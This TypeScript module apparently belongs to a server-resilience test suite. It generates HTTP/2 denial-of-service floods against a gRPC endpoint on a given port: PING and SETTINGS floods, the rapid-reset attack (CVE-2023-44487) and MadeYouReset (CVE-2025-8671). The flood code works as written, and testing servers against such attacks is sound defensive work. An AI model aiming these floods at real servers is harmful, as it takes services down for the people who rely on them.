import { callFields, endHeaders, frame, hello, types } from "../../support/frames.ts";
import type { Attack } from "./attack.ts";
import { flood, swarm } from "./swarm.ts";

/** Connections of each flood. */
const connections = 50;

/** Frames, or groups of them, that are sent at once. */
const burst = 500;

const call = callFields("/greeter.Greeter/SayHello");
const cancel = Buffer.from([0, 0, 0, 8]);
const nothing = Buffer.alloc(4);

/** The same frame over and over. */
function same(bytes: Buffer): () => () => Buffer {
  const many = Buffer.concat(Array<Buffer>(burst).fill(bytes));
  return () => () => many;
}

/** A new stream each time, and what is done to it. */
function streams(act: (stream: number) => Buffer): () => () => Buffer {
  return () => {
    let stream = 1;
    return () => {
      const groups: Buffer[] = [];
      for (let n = 0; n < burst; n++, stream += 2) {
        groups.push(frame(types.headers, endHeaders, stream, call), act(stream));
      }
      return Buffer.concat(groups);
    };
  };
}

/** What is sent on a connection after the preface, by what it is known as. */
const kinds: Readonly<Record<string, () => () => Buffer>> = {
  "PING flood": same(frame(types.ping, 0, 0, Buffer.alloc(8))),
  "SETTINGS flood": same(frame(types.settings, 0, 0)),
  // CVE-2023-44487.
  "rapid reset": streams(stream => frame(types.reset, 0, stream, cancel)),
  // CVE-2025-8671: a window that grows by nothing has the server reset the stream.
  MadeYouReset: streams(stream => frame(types.windowUpdate, 0, stream, nothing)),
};

/** Frames without end. */
export const floods: readonly Attack[] = Object.entries(kinds).map(([name, start]) => ({
  name,
  limits: {},
  async run(port) {
    return [
      await swarm(name, port, connections, socket => {
        socket.write(hello);
        flood(socket, start());
      }),
    ];
  },
}));
